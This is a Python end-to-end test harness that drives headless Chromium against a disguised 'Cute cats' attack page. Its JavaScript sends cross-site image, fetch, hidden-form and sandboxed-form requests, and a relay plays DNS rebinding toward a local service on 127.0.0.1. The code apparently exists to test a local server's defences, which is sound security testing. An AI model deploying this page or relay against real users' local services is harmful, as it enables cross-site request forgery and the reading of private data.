"""A real headless Chromium for the end-to-end tests, and the attacker's side of a web attack.

No npm, no Playwright: Debian's `chromium` runs as a subprocess with the attack page's URL, the
page reports each outcome to a small Python HTTP server of the test (`PageServer`), and Chromium's
own network log (--log-net-log) tells which requests it really sent, with which headers, and
what it got back.

    with PageServer("127.0.0.2", port, {"/": html}) as site, Chromium(site.url("/")) as browser:
        site.wait_for("done")
    for r in browser.requests_to("127.0.0.1:%d" % api_port): ...

`RebindingRelay` plays DNS rebinding for real: it answers the browser's first request for the
attack page itself and relays every later connection byte for byte to localrds, as if the
attacker's domain had meanwhile been re-pointed to 127.0.0.1.

Environment: LOCALRDS_CHROMIUM, another Chromium binary (default /usr/bin/chromium).
"""

import contextlib
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

CHROMIUM = os.environ.get("LOCALRDS_CHROMIUM", "/usr/bin/chromium")

# What Chromium needs as root in a container, and what keeps it from calling home on this closed
# network (without the background-networking flags it floods it with update and metrics calls).
CHROMIUM_FLAGS = [
    "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--disable-default-apps", "--disable-extensions", "--no-default-browser-check",
    "--mute-audio",
    "--no-proxy-server",  # straight to the test's servers, whatever *_proxy says
]


def chromium_missing():
    """Why the browser tests cannot run here (None when they can)."""
    if not (os.path.isfile(CHROMIUM) and os.access(CHROMIUM, os.X_OK)):
        return ("%s is missing: the browser tests need Debian's chromium package, which "
                "scripts/install-deps.sh --test installs" % CHROMIUM)
    return None


def _wait(fn, timeout, interval=0.05):
    deadline = time.monotonic() + timeout
    while True:
        value = fn()
        if value or time.monotonic() >= deadline:
            return value
        time.sleep(interval)


def _group_alive(pgid):
    """True while a live (non-zombie) process of that process group exists."""
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open("/proc/%s/stat" % name) as f:
                fields = f.read().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        # fields: state, ppid, pgrp, ...
        if len(fields) > 2 and fields[2] == str(pgid) and fields[0] != "Z":
            return True
    return False


# --- the browser ---------------------------------------------------------------------------

class Chromium:
    """Headless Chromium on one URL, in its own process group and with a fresh, empty profile.
    stop() (or leaving the `with`) ends every process of the group."""

    def __init__(self, url, extra_args=()):
        self.url = url
        self.extra_args = list(extra_args)
        self.dir = tempfile.mkdtemp(prefix="localrds-e2e-chromium-", dir="/tmp")
        self.profile = os.path.join(self.dir, "profile")
        os.mkdir(self.profile)
        self.netlog_path = os.path.join(self.dir, "netlog.json")
        self.output_path = os.path.join(self.dir, "chromium.log")
        self.proc = None
        self._requests = None

    def command(self):
        return ([CHROMIUM] + CHROMIUM_FLAGS +
                ["--user-data-dir=" + self.profile,
                 "--log-net-log=" + self.netlog_path,
                 "--net-log-capture-mode=IncludeSensitive"] +
                self.extra_args + [self.url])

    def start(self):
        why = chromium_missing()
        if why:
            raise AssertionError(why)
        env = {k: v for k, v in os.environ.items() if not k.lower().endswith("_proxy")}
        with open(self.output_path, "wb") as out:
            self.proc = subprocess.Popen(self.command(), stdout=out, stderr=out, env=env,
                                         stdin=subprocess.DEVNULL, start_new_session=True)
        return self

    def stop(self):
        """SIGTERM to the browser (a clean shutdown also completes the network log), then
        SIGKILL to whatever of its process group is left; waits until the group is gone."""
        if self.proc is None:
            return
        pgid = self.proc.pid  # start_new_session: the browser leads its own group
        if self.proc.poll() is None:
            with contextlib.suppress(ProcessLookupError):
                self.proc.send_signal(signal.SIGTERM)
            _wait(lambda: not _group_alive(pgid), 10)
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.killpg(pgid, signal.SIGKILL)
        with contextlib.suppress(subprocess.TimeoutExpired):
            self.proc.wait(10)
        if not _wait(lambda: not _group_alive(pgid), 10):
            sys.stderr.write("browser: processes of group %d outlived SIGKILL\n" % pgid)

    def cleanup(self):
        if os.environ.get("LOCALRDS_E2E_KEEP"):
            sys.stderr.write("browser: kept %s\n" % self.dir)
        else:
            shutil.rmtree(self.dir, ignore_errors=True)

    def __enter__(self):
        return self.start()

    def __exit__(self, *exc):
        self.stop()
        self._requests = self._parse_netlog()  # before the directory goes
        self.cleanup()
        return False

    def output_tail(self, lines=30):
        try:
            with open(self.output_path, "rb") as f:
                text = f.read().decode("utf-8", "replace")
        except OSError:
            return ""
        keep = [l for l in text.splitlines() if "dbus" not in l][-lines:]
        return "\n".join(keep)

    # -- what the browser really sent --

    def _parse_netlog(self):
        """The HTTP requests of the network log, in the order they started: dicts with method,
        url, line (request line), request_headers and response_headers ({lower-case name:
        value}), status (int, None when no response came) and net_error."""
        try:
            with open(self.netlog_path, "rb") as f:
                text = f.read().decode("utf-8", "replace").rstrip()
        except OSError:
            return []
        # A log cut short by the shutdown lacks its closing brackets.
        if not text.endswith("}"):
            text = text.rstrip(",") + "]}"
        doc = None
        while doc is None and text:
            try:
                doc = json.loads(text)
            except ValueError:
                # Drop the last (partial) event and try again.
                cut = text.rfind("\n{", 0, len(text) - 3)
                if cut < 0:
                    return []
                text = text[:cut].rstrip().rstrip(",") + "]}"
        names = {v: k for k, v in doc.get("constants", {}).get("logEventTypes", {}).items()}
        by_source, order = {}, []
        for e in doc.get("events", []):
            name = names.get(e.get("type"))
            params = e.get("params") or {}
            sid = e.get("source", {}).get("id")
            if name == "URL_REQUEST_START_JOB" and "url" in params:
                if sid not in by_source:
                    order.append(sid)
                by_source[sid] = {"method": params.get("method"), "url": params["url"],
                                  "line": None, "request_headers": {}, "status": None,
                                  "response_headers": {}, "net_error": None}
            r = by_source.get(sid)
            if r is None:
                continue
            if name == "HTTP_TRANSACTION_SEND_REQUEST_HEADERS":
                r["line"] = params.get("line", "").strip()
                r["request_headers"] = _header_dict(params.get("headers", []))
            elif name == "HTTP_TRANSACTION_READ_RESPONSE_HEADERS":
                hdrs = params.get("headers", [])
                if hdrs:
                    with contextlib.suppress(IndexError, ValueError):
                        r["status"] = int(hdrs[0].split()[1])
                    r["response_headers"] = _header_dict(hdrs[1:])
            elif name == "URL_REQUEST_START_JOB" and "net_error" in params:
                r["net_error"] = params["net_error"]
        return [by_source[s] for s in order]

    def requests(self):
        """Every HTTP request of the network log (after the browser stopped)."""
        if self._requests is None:
            self._requests = self._parse_netlog()
        return self._requests

    def requests_to(self, authority):
        """The requests to http://<authority>/..."""
        prefix = "http://%s/" % authority
        return [r for r in self.requests() if r["url"].startswith(prefix)]


def _header_dict(lines):
    out = {}
    for line in lines:
        name, _, value = line.partition(":")
        out[name.strip().lower()] = value.strip()
    return out


def describe_requests(requests, title):
    """A few lines of evidence: what the browser sent and what it got back."""
    shown = ("origin", "referer", "sec-fetch-site", "sec-fetch-mode", "sec-fetch-dest",
             "content-type", "authorization", "access-control-request-headers")
    lines = ["--- %s: %d request(s) seen in Chromium's network log ---" % (title, len(requests))]
    for r in requests:
        h = r["request_headers"]
        line = (r["line"] or "%s %s" % (r["method"], r["url"])).replace(" HTTP/1.1", "")
        if len(line) > 70:
            line = line[:67] + "..."
        lines.append("  %s -> %s | Host=%s %s" % (
            line, r["status"] if r["status"] is not None else "net_error %s" % r["net_error"],
            h.get("host"), " ".join("%s=%s" % (k, h[k][:40]) for k in shown if k in h)))
    return "\n".join(lines) + "\n"


# --- the attacker's servers ------------------------------------------------------------------

class PageServer:
    """An HTTP server on (host, port) serving `pages` ({path: html}) and collecting the page's
    reports: POST /report with a JSON body. `snapshot`, when given, is called as each report
    arrives, before it is answered (so before the page moves on), and its result stored with
    the report (the tests pass the size of localrds' log). Every request is recorded with its
    headers in `requests`."""

    def __init__(self, host, port, pages=None, snapshot=None):
        self.host, self.port = host, port
        self.pages = dict(pages or {})
        self.snapshot = snapshot
        self.reports = []        # [(report dict, snapshot value)]
        self.requests = []       # [(method, path, {header: value})]
        self._cond = threading.Condition()
        server = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                pass

            def handle(self):
                # The test stops the browser as soon as the last report is in.
                with contextlib.suppress(ConnectionError):
                    super().handle()

            def _send(self, status, body=b"", ctype="text/plain; charset=utf-8"):
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                if body:
                    self.wfile.write(body)

            def do_GET(self):
                server.requests.append(("GET", self.path, dict(self.headers)))
                page = server.pages.get(self.path.split("?", 1)[0])
                if page is None:
                    self._send(404, b"not found\n")
                else:
                    self._send(200, page.encode(), "text/html; charset=utf-8")

            def do_POST(self):
                server.requests.append(("POST", self.path, dict(self.headers)))
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                if self.path != "/report":
                    self._send(404, b"not found\n")
                    return
                try:
                    report = json.loads(body.decode("utf-8", "replace"))
                except ValueError:
                    report = {"unparsable": body.decode("utf-8", "replace")}
                snap = server.snapshot() if server.snapshot else None
                with server._cond:
                    server.reports.append((report, snap))
                    server._cond.notify_all()
                self._send(204)

        self.httpd = http.server.ThreadingHTTPServer((host, port), Handler)
        self.httpd.daemon_threads = True
        self._thread = None

    def url(self, path="/", host=None):
        return "http://%s:%d%s" % (host or self.host, self.port, path)

    def start(self):
        self._thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self._thread.start()
        return self

    def stop(self):
        self.httpd.shutdown()
        self.httpd.server_close()

    def __enter__(self):
        return self.start()

    def __exit__(self, *exc):
        self.stop()
        return False

    def wait_for(self, step, timeout=60):
        """Waits until a report with {"step": step} came; returns all reports so far. On timeout
        raises AssertionError naming the reports seen."""
        deadline = time.monotonic() + timeout
        with self._cond:
            while not any(r.get("step") == step for r, _ in self.reports):
                left = deadline - time.monotonic()
                if left <= 0:
                    raise AssertionError("the page did not report %r within %ss; reports: %r"
                                         % (step, timeout, [r for r, _ in self.reports]))
                self._cond.wait(min(left, 0.5))
            return list(self.reports)


class RebindingRelay:
    """DNS rebinding, played out on (host, port): the first request for `page_path` (on
    whichever connection carries it) is answered here with `page` and `Connection: close`; every
    other connection is relayed byte for byte to (upstream_host, upstream_port), which is what a
    browser reaches once the attacker's DNS answers 127.0.0.1. The first request head of each
    relayed connection is kept in `relayed` (evidence of what the browser sent)."""

    def __init__(self, host, port, page, upstream_host, upstream_port, page_path="/"):
        self.host, self.port = host, port
        self.page = page.encode()
        self.page_path = page_path
        self.upstream = (upstream_host, upstream_port)
        self.page_served = threading.Event()
        self.page_request = None
        self.relayed = []
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._sock.bind((host, port))
        self._sock.listen(64)
        self._sock.settimeout(0.2)
        self._conns = []

    def start(self):
        threading.Thread(target=self._accept_loop, daemon=True).start()
        return self

    def stop(self):
        self._stop.set()
        with contextlib.suppress(OSError):
            self._sock.close()
        with self._lock:
            for c in self._conns:
                with contextlib.suppress(OSError):
                    c.close()

    def __enter__(self):
        return self.start()

    def __exit__(self, *exc):
        self.stop()
        return False

    def _accept_loop(self):
        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            with self._lock:
                self._conns.append(conn)
            threading.Thread(target=self._serve, args=(conn,), daemon=True).start()

    def _serve(self, conn):
        conn.settimeout(30)
        head = b""
        try:
            while b"\r\n\r\n" not in head:
                chunk = conn.recv(65536)
                if not chunk:
                    conn.close()
                    return
                head += chunk
        except OSError:
            conn.close()
            return
        request_line = head.split(b"\r\n", 1)[0].decode("latin-1")
        parts = request_line.split()
        with self._lock:
            serve_page = (not self.page_served.is_set() and len(parts) >= 2 and
                          parts[0] == "GET" and parts[1] == self.page_path)
            if serve_page:
                self.page_served.set()
                self.page_request = head.decode("latin-1")
            else:
                self.relayed.append(head.split(b"\r\n\r\n", 1)[0].decode("latin-1"))
        if serve_page:
            with contextlib.suppress(OSError):
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
                             b"Cache-Control: no-store\r\nConnection: close\r\n"
                             b"Content-Length: %d\r\n\r\n" % len(self.page) + self.page)
                conn.shutdown(socket.SHUT_WR)
            conn.close()
            return
        try:
            up = socket.create_connection(self.upstream, timeout=10)
        except OSError:
            conn.close()
            return
        with self._lock:
            self._conns.append(up)
        up.settimeout(None)
        conn.settimeout(None)
        with contextlib.suppress(OSError):
            up.sendall(head)
        t = threading.Thread(target=self._pump, args=(up, conn), daemon=True)
        t.start()
        self._pump(conn, up)
        t.join(30)
        for s in (conn, up):
            with contextlib.suppress(OSError):
                s.close()

    @staticmethod
    def _pump(src, dst):
        try:
            while True:
                data = src.recv(65536)
                if not data:
                    break
                dst.sendall(data)
        except OSError:
            pass
        with contextlib.suppress(OSError):
            dst.shutdown(socket.SHUT_WR)


# --- the attack page ---------------------------------------------------------------------------

_PAGE = """<!doctype html>
<html><head><meta charset="utf-8">%(meta)s<title>%(title)s</title></head>
<body><p>Nothing to see here.</p>
<script>
"use strict";
const CFG = %(cfg)s;

// Reports go to the attacker's own server; a no-cors POST of text/plain needs no permission.
async function report(x) {
  x.page = location.href;
  await fetch(CFG.report, {method: 'POST', mode: 'no-cors', body: JSON.stringify(x)});
}

function withTimeout(p, ms) {
  return Promise.race([p, new Promise(r => setTimeout(() => r({outcome: 'timeout'}), ms))]);
}

function img(url) {
  return new Promise(r => {
    const i = new Image();
    i.onload = () => r({outcome: 'img load'});
    i.onerror = () => r({outcome: 'img error'});
    i.src = url;
  });
}

// A form posted into a hidden iframe: the page navigates the frame, as a click would.
async function form(action, fields) {
  const name = 'sink' + Math.random().toString(36).slice(2);
  const frame = document.createElement('iframe');
  frame.name = name;
  frame.style.display = 'none';
  document.body.appendChild(frame);
  await new Promise(r => setTimeout(r, 50));  // past the frame's initial about:blank
  const loaded = new Promise(r => frame.addEventListener('load',
      () => r({outcome: 'iframe loaded'}), {once: true}));
  const f = document.createElement('form');
  f.method = 'post';
  f.action = action;
  f.target = name;
  for (const [k, v] of Object.entries(fields || {})) {
    const input = document.createElement('input');
    input.type = 'hidden';
    input.name = k;
    input.value = v;
    f.appendChild(input);
  }
  document.body.appendChild(f);
  f.submit();
  return loaded;
}

// The same from a sandboxed iframe: a document of an opaque origin, whose requests say
// `Origin: null`. Its second load is the answer to the form.
function sandboxedForm(action, fields) {
  const esc = s => String(s).replace(/&/g, '&amp;').replace(/"/g, '&quot;')
      .replace(/</g, '&lt;').replace(/>/g, '&gt;');
  const inputs = Object.entries(fields || {}).map(([k, v]) =>
      '<input type="hidden" name="' + esc(k) + '" value="' + esc(v) + '">').join('');
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-forms allow-scripts');
  frame.style.display = 'none';
  let loads = 0;
  const loaded = new Promise(r => frame.addEventListener('load', () => {
    if (++loads === 2) r({outcome: 'sandboxed iframe loaded'});
  }));
  frame.srcdoc = '<body onload="setTimeout(() => document.forms[0].submit(), 0)">' +
      '<form method="post" action="' + esc(action) + '">' + inputs + '</form></body>';
  document.body.appendChild(frame);
  return loaded;
}

async function run(v) {
  const init = {method: v.method || 'GET', headers: v.headers || {}};
  if (v.body !== undefined && v.body !== null) init.body = v.body;
  switch (v.kind) {
    case 'img':
      return img(v.url);
    case 'form':
      return form(v.url, v.fields);
    case 'sandboxed-form':
      return sandboxedForm(v.url, v.fields);
    case 'no-cors': {
      init.mode = 'no-cors';
      const res = await fetch(v.url, init);
      return {outcome: 'opaque response', type: res.type, status: res.status};
    }
    case 'read': {  // cors mode: same-origin, or cross-origin after a preflight
      const res = await fetch(v.url, init);
      return {outcome: 'response', type: res.type, status: res.status,
              headers: Array.from(res.headers.entries()), body: await res.text()};
    }
  }
  return {outcome: 'unknown kind ' + v.kind};
}

(async () => {
  for (const v of CFG.vectors) {
    let result;
    try {
      result = await withTimeout(run(v), CFG.timeoutMs);
    } catch (e) {
      result = {outcome: 'exception', error: e.name + ': ' + e.message};
    }
    result.step = v.name;
    await report(result);
  }
  if (CFG.next) {
    location.href = CFG.next;
  } else {
    await report({step: 'done'});
  }
})();
</script></body></html>
"""


def attack_page(vectors, report_url, next_url=None, no_referrer=False, title="Cute cats",
                timeout_ms=10000):
    """An HTML page that runs `vectors` one after the other, reporting each outcome (a JSON
    object with "step": the vector's name) to `report_url` before starting the next, then
    navigates to `next_url` or reports {"step": "done"}.

    A vector is a dict: name, kind and url, plus
      kind "img":      an <img> GET of url;
      kind "no-cors":  fetch(url, {mode: 'no-cors', method, headers, body}) (opaque answer);
      kind "form":     a <form method=post> of `fields` to url, into a hidden iframe;
      kind "sandboxed-form": the same form, submitted by a sandboxed iframe (Origin: null);
      kind "read":     fetch(url, {method, headers, body}) in cors mode; the report has the
                       status, headers and body, or, when the browser refuses (a failed
                       preflight), outcome "exception" and error "TypeError: ...".
    With no_referrer the page has <meta name="referrer" content="no-referrer">."""
    cfg = {"vectors": vectors, "report": report_url, "next": next_url, "timeoutMs": timeout_ms}
    meta = '<meta name="referrer" content="no-referrer">' if no_referrer else ""
    return _PAGE % {"meta": meta, "title": title,
                    "cfg": json.dumps(cfg).replace("</", "<\\/")}
